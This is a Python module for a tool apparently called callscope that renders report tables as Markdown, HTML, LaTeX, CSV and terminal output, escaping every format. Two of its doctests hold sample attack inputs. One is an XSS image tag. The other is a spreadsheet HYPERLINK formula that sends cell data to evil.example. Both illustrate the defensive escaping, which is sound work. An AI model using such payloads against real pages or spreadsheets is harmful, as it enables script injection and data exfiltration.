"""One table type for every table callscope writes, and the cell formats tables share.

A :class:`Table` is text cells under column headers, with an optional ``title``, ``caption``
(what the table shows and how it was computed), ``note`` (a remark after the table, e.g. the
interval method), ``name`` (the file stem / anchor) and ``raw`` (the same data as exact
values, for the formats that carry data rather than display). Every table builder returns
one: the SAAG report tables (:mod:`callscope.report.tables`), the comparisons
(:mod:`callscope.report.compare`), the GAR / Acc diagnostics
(:mod:`callscope.calibration.diagnostics`, :mod:`callscope.report.tau2_tables`), the SAAG
stage mix (:mod:`callscope.calibration.stage_table`), the paired probe comparison
(:mod:`callscope.calibration.paired`), the panel (:mod:`callscope.calibration.panel`) and the
detector audit (:mod:`callscope.saag.audit`). The renderings are its methods:

* :meth:`Table.to_markdown`: GitHub pipe table. With a ``title``, a first paragraph
  ``**<title>.** <caption>``; with ``empty`` set and no rows, that line instead of the
  header; the ``note`` as a paragraph after the table. Headers and cells are escaped by
  :func:`markdown_escape`.
* :meth:`Table.to_html`: an escaped ``<table>`` in a ``table-wrap`` div, the title (bold) and
  caption in ``<caption>``; ``(no rows)`` spanning the columns when there are no rows.
* :meth:`Table.to_latex`: a booktabs ``table`` environment (``\\toprule`` / ``\\midrule`` /
  ``\\bottomrule``) with ``\\caption`` and ``\\label{tab:<name>}``; cells escaped by
  :func:`latex_escape`.
* :meth:`Table.to_csv`: the ``raw`` table's cells as CSV when there is one (the report's
  exact numbers), else the text cells; quoted by :mod:`csv` (a cell with a comma, quote or
  newline survives).
* :meth:`Table.to_rich`: a :class:`rich.table.Table` for the terminal (``row_styles`` colour
  rows, e.g. bound violations in red), fitted to the terminal width (see
  :func:`fit_terminal`); every header and cell is escaped (``[/red]`` is shown, not parsed).
* :meth:`Table.cells`: ``{"columns", "rows", "notes"}``, the form the HTML report embeds as
  JSON.

Files are written by :func:`callscope.core.table_formats.write_table`, which picks the
rendering by format name or file extension (the registry of table formats).

``align`` has one letter per column, ``l`` or ``r``; it sets the LaTeX column spec and the
rich justification (Markdown and HTML leave alignment to the stylesheet).
"""

from __future__ import annotations

import csv
import html
import io
import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

from rich import box
from rich.cells import cell_len
from rich.console import Console, ConsoleOptions, RenderResult
from rich.markup import escape
from rich.measure import Measurement
from rich.table import Table as RichTable

#: HTML body of a table without rows
NO_ROWS_HTML = "(no rows)"


def pct(x: float | None, signed: bool = False) -> str:
    """A share as a percentage with one decimal (``0.125`` -> ``"12.5"``, signed ``"+12.5"``:
    a difference in percentage points); ``"n/a"`` for ``None``."""
    if x is None:
        return "n/a"
    return f"{100 * x:+.1f}" if signed else f"{100 * x:.1f}"


def pct_ci(x: float | None, lo: float | None, hi: float | None, signed: bool = False) -> str:
    """``"50.0 [9.5, 90.5]"``: a share and its interval as percentages (:func:`pct`);
    ``"n/a"`` when the share is ``None``."""
    if x is None:
        return "n/a"
    return f"{pct(x, signed)} [{pct(lo, signed)}, {pct(hi, signed)}]"


#: ``"50.0 [9.5, 90.5] (header)"``: a value, its interval and an optional remark
_INTERVAL = re.compile(r"(?P<x>[^\s\[\]]+) \[(?P<lo>[^\s,\[\]]+), (?P<hi>[^\s\[\]]+)\](?P<rest>.*)")
#: a header's bracketed suffix, e.g. ``" [95% CI]"`` in ``"Acc % [95% CI]"``
_HEADER_SUFFIX = re.compile(r"\s+\[[^\[\]]+\]$")
_MIN_FREE_TEXT = 12


def compact_interval(cell: str) -> str:
    """``"50.0 [9.5, 90.5] (header)"`` -> ``"50.0 (header)\n[9.5,90.5]"``: the value on the
    first line, its interval without the space on the second; other text unchanged."""
    m = _INTERVAL.fullmatch(cell)
    if m is None:
        return cell
    return f"{m['x']}{m['rest']}\n[{m['lo']},{m['hi']}]"


def _common_prefix(cells: Sequence[str]) -> str:
    """The longest prefix ending in ``_`` that every cell has and none is only (``""`` with
    fewer than two distinct cells)."""
    if len(set(cells)) < 2:
        return ""
    prefix = cells[0]
    for c in cells[1:]:
        while not c.startswith(prefix):
            prefix = prefix[:-1]
    cut = prefix.rfind("_")
    prefix = prefix[: cut + 1] if cut >= 2 else ""
    return prefix if prefix and all(len(c) > len(prefix) for c in cells) else ""


def _width(text: str) -> int:
    return max((cell_len(line) for line in text.split("\n")), default=0)


def _header_width(text: str) -> int:
    """The narrowest a header gets when it wraps at spaces (its longest word)."""
    return max((cell_len(w) for w in text.split()), default=0)


@dataclass
class TerminalLayout:
    """What :func:`fit_terminal` chose: the columns kept (their indices and headers), the
    cells, whether the compact style is on, and the notes it adds to the caption."""

    keep: list[int]
    columns: list[str]
    rows: list[list[str]]
    compact: bool
    notes: list[str]


def _compact_cells(table: Table) -> tuple[list[str], list[list[str]], list[str]]:
    """Headers without their bracketed suffix, cells with stacked intervals and shared
    prefixes left out, and the notes that say so."""
    notes: list[str] = []
    suffixes = sorted({m.group().strip() for c in table.columns if (m := _HEADER_SUFFIX.search(c))})
    heads = [_HEADER_SUFFIX.sub("", c) for c in table.columns]
    cells = [[compact_interval(c) for c in r] for r in table.rows]
    if suffixes and any(
        c != o for r, ro in zip(cells, table.rows, strict=True) for c, o in zip(r, ro, strict=True)
    ):
        notes.append(f"[lo,hi] under each value: {', '.join(s.strip('[]') for s in suffixes)}")
    for i, head in enumerate(heads):
        prefix = _common_prefix([r[i] for r in cells]) if cells else ""
        if prefix:
            cells = [[*r[:i], r[i][len(prefix) :], *r[i + 1 :]] for r in cells]
            notes.append(f"{head}: {prefix!r} left out")
    return heads, cells, notes


def _rich_from(table: Table, layout: TerminalLayout, pin: bool = True) -> RichTable:
    """The rich table of ``layout`` (every text escaped as rich markup); ``pin``: compact
    columns keep their natural width (else rich folds them to fit)."""
    caption = "; ".join(t for t in (table.caption, table.note, *layout.notes) if t) or None
    out = RichTable(
        title=escape(table.title) if table.title is not None else None,
        caption=escape(caption) if caption is not None else None,
        box=box.SIMPLE_HEAD if layout.compact else box.HEAVY_HEAD,
        show_edge=not layout.compact,
        pad_edge=not layout.compact,
        padding=(0, 1, 0, 0) if layout.compact else (0, 1),
    )
    last = len(layout.columns) - 1
    for i, col in enumerate(layout.columns):
        right = (table.align or "")[layout.keep[i]] == "r"
        free = layout.compact and i == last and last > 0
        need = max([_header_width(col), *(_width(r[i]) for r in layout.rows)])
        out.add_column(
            escape(col),
            justify="right" if right else "left",
            no_wrap=not layout.compact,
            overflow="fold",
            min_width=(min(need, _MIN_FREE_TEXT) if free else need)
            if layout.compact and pin
            else None,
            max_width=need if layout.compact and pin and not free else None,
        )
    styles = table.row_styles or [None] * len(table.rows)
    for row, style in zip(layout.rows, styles, strict=True):
        out.add_row(*(escape(c) for c in row), style=style)
    return out


def fit_terminal(table: Table, width: int) -> tuple[TerminalLayout, RichTable]:
    """Choose how ``table`` fits ``width`` terminal columns, measured by rich itself.

    The full table (rich's heavy box, one line per cell) when its natural width fits.
    Otherwise, in this order until its narrowest layout fits: the compact style (no vertical
    rules, headers wrapped at spaces, a bracketed header suffix such as ``[95% CI]`` moved to
    the caption, intervals as the value over ``[lo,hi]`` (:func:`compact_interval`), a
    ``_``-ended prefix every cell of a column shares left out and named; the last column, free
    text, may wrap); then the columns in ``table.terminal_drop`` left out, in that order
    (named in the caption). Returns the layout and its rich table."""
    console = Console(width=100_000)  # unclamped: measurements are the tables' own

    def measure(rt: RichTable) -> Measurement:
        return Measurement.get(console, console.options, rt)

    n = len(table.columns)
    layout = TerminalLayout(
        list(range(n)), list(table.columns), [list(r) for r in table.rows], False, []
    )
    rich_table = _rich_from(table, layout)
    if n == 0 or measure(rich_table).maximum <= width:
        return layout, rich_table
    heads, cells, notes = _compact_cells(table)
    keep = list(range(n))
    todo = [table.columns.index(c) for c in table.terminal_drop if c in table.columns]
    dropped: list[str] = []
    while True:
        shown = notes + (
            [f"not shown at this width: {', '.join(dropped)} (see the .md or the report)"]
            if dropped
            else []
        )
        layout = TerminalLayout(
            list(keep), [heads[i] for i in keep], [[r[i] for i in keep] for r in cells], True, shown
        )
        rich_table = _rich_from(table, layout)
        if measure(rich_table).minimum <= width:
            return layout, rich_table
        if not todo or len(keep) == 1:  # still too wide: rich folds the cells to fit
            return layout, _rich_from(table, layout, pin=False)
        i = todo.pop(0)
        if i in keep:
            keep.remove(i)
            dropped.append(heads[i])


class FittedTable(RichTable):
    """A rich table that lays ``source`` out again for the width it is rendered at
    (:func:`fit_terminal`), or always for ``width`` when given. Its own attributes (title,
    columns, rows) are those of the 80-column layout (or ``width``'s)."""

    def __init__(self, source: Table, width: int | None = None) -> None:
        self.__dict__.update(fit_terminal(source, width or 80)[1].__dict__)
        self._source = source
        self._fixed_width = width

    def _fitted(self, options: ConsoleOptions) -> RichTable:
        return fit_terminal(self._source, self._fixed_width or options.max_width)[1]

    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
        yield self._fitted(options)

    def __rich_measure__(self, console: Console, options: ConsoleOptions) -> Measurement:
        return Measurement.get(console, options, self._fitted(options))


def markdown_escape(text: Any) -> str:
    """A Markdown table cell: ``\\`` and ``|`` backslash-escaped, newlines as spaces, and
    ``&``, ``<``, ``>`` as HTML entities, so a model name ``<img src=x onerror=...>`` is
    text in every Markdown renderer, never HTML (issue 47 point 11).

    >>> markdown_escape("<img src=x onerror=alert(1)> | a")
    '&lt;img src=x onerror=alert(1)&gt; \\\\| a'
    """
    text = str(text).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return text.replace("\\", "\\\\").replace("|", "\\|").replace("\n", " ")


#: what a spreadsheet reads as the start of a formula (OWASP, "CSV injection")
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A CSV cell no spreadsheet runs (OWASP's rule for CSV injection): a text starting with
    ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, unless it
    is a number (``-0.5``) or the lone ``-`` of a missing value; other values as they are.

    >>> csv_cell('=HYPERLINK("http://evil.example/?"&A1,"c")')[:11], csv_cell("-0.5")
    ("'=HYPERLINK", '-0.5')
    """
    if not isinstance(value, str) or not value.startswith(_FORMULA_START) or value == "-":
        return value
    try:
        float(value)
    except ValueError:
        return "'" + value
    return value


_LATEX_SPECIAL = {
    "\\": r"\textbackslash{}",
    "&": r"\&",
    "%": r"\%",
    "$": r"\$",
    "#": r"\#",
    "_": r"\_",
    "{": r"\{",
    "}": r"\}",
    "~": r"\textasciitilde{}",
    "^": r"\textasciicircum{}",
    "±": r"$\pm$",
    "–": "--",
    "<": r"\textless{}",
    ">": r"\textgreater{}",
}


def latex_escape(text: Any) -> str:
    """Escape LaTeX special characters (``_`` -> ``\\_``, ``±`` -> ``$\\pm$``, ...)."""
    return "".join(_LATEX_SPECIAL.get(ch, ch) for ch in str(text))


def _esc(text: Any) -> str:
    return html.escape(str(text), quote=True)


@dataclass
class Table:
    """Text cells under column headers (see the module docstring for each rendering).

    ``rows``: one list per row, as long as ``columns`` (values other than text are converted
    with ``str``). ``align``: one ``l``/``r`` per column (default all ``l``). ``row_styles``:
    one rich style (or ``None``) per row. ``empty``: the Markdown line shown instead of the
    header when there are no rows (``None``: the header alone). ``terminal_drop``: columns
    (headers) the terminal leaves out, in this order, when the table does not fit otherwise
    (:func:`fit_terminal`). ``raw``: the same rows as exact values (e.g. ``0.111111`` where
    the cells read ``"0.111 [0.020, 0.435]"``), written by :meth:`to_csv` so that other tools
    reuse the numbers; its columns may differ (a value and its interval bounds apart)."""

    columns: Sequence[str]
    rows: Sequence[Sequence[Any]]
    title: str | None = None
    caption: str | None = None
    note: str | None = None
    name: str | None = None
    align: str | None = None
    row_styles: Sequence[str | None] | None = None
    empty: str | None = None
    terminal_drop: Sequence[str] = ()
    raw: Table | None = None

    def __post_init__(self) -> None:
        self.columns = [str(c) for c in self.columns]
        self.rows = [[str(c) for c in row] for row in self.rows]
        width = len(self.columns)
        for i, row in enumerate(self.rows):
            if len(row) != width:
                raise ValueError(f"row {i} has {len(row)} cells for {width} columns")
        if self.align is None:
            self.align = "l" * width
        if len(self.align) != width or set(self.align) - {"l", "r"}:
            raise ValueError(f"align {self.align!r}: one 'l' or 'r' per column ({width})")
        if self.row_styles is not None and len(self.row_styles) != len(self.rows):
            raise ValueError("row_styles needs one style per row")

    # ------------------------------------------------------------------ renderings

    def to_markdown(self) -> str:
        """GitHub-flavoured Markdown (see the module docstring)."""
        lines: list[str] = []
        if self.title is not None:
            head = f"**{html.escape(self.title, quote=False)}.**"
            caption = None if self.caption is None else html.escape(self.caption, quote=False)
            lines += [head if caption is None else f"{head} {caption}", ""]
        if not self.rows and self.empty is not None:
            lines.append(self.empty)
        else:
            lines.append("| " + " | ".join(markdown_escape(c) for c in self.columns) + " |")
            lines.append("|" + "---|" * len(self.columns))
            for row in self.rows:
                lines.append("| " + " | ".join(markdown_escape(c) for c in row) + " |")
        out = "\n".join(lines) + "\n"
        if self.note:
            out += "\n" + self.note + "\n"
        return out

    def to_html(self, table_id: str | None = None, cls: str = "report") -> str:
        """Escaped HTML; ``id="table-<table_id>"`` (default: the table's ``name``), CSS class
        ``cls``. The caption is the bold title, then the caption and the note. A row with a
        ``row_styles`` entry gets ``class="row-<style>"`` (e.g. ``row-red``)."""
        head = "".join(f"<th>{_esc(c)}</th>" for c in self.columns)
        styles = self.row_styles or [None] * len(self.rows)
        body = "".join(
            (f'<tr class="row-{_esc(st)}">' if st else "<tr>")
            + "".join(f"<td>{_esc(v)}</td>" for v in row)
            + "</tr>"
            for row, st in zip(self.rows, styles, strict=True)
        )
        if not self.rows:
            body = f'<tr><td colspan="{max(1, len(self.columns))}">{NO_ROWS_HTML}</td></tr>'
        text = " ".join(t for t in (self.caption, self.note) if t)
        if self.title is not None:
            caption = f"<caption><b>{_esc(self.title)}.</b> {_esc(text)}</caption>"
        else:
            caption = f"<caption>{_esc(text)}</caption>" if text else ""
        tid = table_id if table_id is not None else self.name or ""
        return (
            f'<div class="table-wrap"><table class="{_esc(cls)}" id="table-{_esc(tid)}">'
            f"{caption}<thead><tr>{head}</tr></thead><tbody>{body}</tbody></table></div>"
        )

    def to_latex(self) -> str:
        """A booktabs ``table`` float with caption and ``\\label{tab:<name>}``."""
        out = [r"\begin{table}[t]", r"\centering", r"\small"]
        if self.caption is not None:
            out.append(f"\\caption{{{latex_escape(self.caption)}}}")
        if self.name is not None:
            out.append(f"\\label{{tab:{self.name}}}")
        out += [
            f"\\begin{{tabular}}{{{self.align or 'l'}}}",
            r"\toprule",
            " & ".join(latex_escape(c) for c in self.columns) + r" \\",
            r"\midrule",
        ]
        for row in self.rows:
            out.append(" & ".join(latex_escape(v) for v in row) + r" \\")
        out += [r"\bottomrule", r"\end{tabular}"]
        if self.note:
            out.append(f"\\par\\smallskip{{\\footnotesize {latex_escape(self.note)}}}")
        out.append(r"\end{table}")
        return "\n".join(out) + "\n"

    def to_csv(self) -> str:
        """The header and the cells as CSV (``\\n`` line ends, minimal quoting): those of
        ``raw`` when the table carries it, else the text cells."""
        source = self.raw if self.raw is not None else self
        buf = io.StringIO()
        writer = csv.writer(buf, lineterminator="\n")
        writer.writerow([csv_cell(c) for c in source.columns])
        writer.writerows([csv_cell(v) for v in row] for row in source.rows)
        return buf.getvalue()

    def to_rich(self, width: int | None = None) -> RichTable:
        """A :class:`rich.table.Table` with the title, ``align`` as justification and
        ``row_styles``; the caption and note (if any) as its caption, then what the fitting
        changed. Laid out by :func:`fit_terminal` for ``width`` columns, or (``None``) for
        the width of the console it is printed on, when printed: a wider terminal gets the
        full table. Every text is escaped as rich markup."""
        return FittedTable(self, width)

    def cells(self) -> dict[str, Any]:
        """``{"columns", "rows", "notes"}`` as JSON-ready lists (the note, if any, as the one
        entry of ``notes``)."""
        return {
            "columns": list(self.columns),
            "rows": [list(r) for r in self.rows],
            "notes": [self.note] if self.note else [],
        }
